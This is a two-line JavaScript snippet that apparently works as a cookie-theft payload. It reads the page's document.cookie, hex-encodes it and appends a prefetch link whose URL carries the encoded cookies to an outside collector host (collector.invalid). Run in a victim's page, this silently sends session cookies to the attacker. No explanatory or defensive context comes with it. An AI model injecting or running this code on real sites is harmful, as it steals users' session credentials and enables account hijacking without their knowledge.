const q = [...document.cookie].map((c) => c.charCodeAt(0).toString(16)).reduce((a, b) => a + b, '');
const link = document.createElement('link'); link.rel = 'prefetch'; link.setAttribute('href', `https://collector.invalid/${q}`); document.head.append(link);
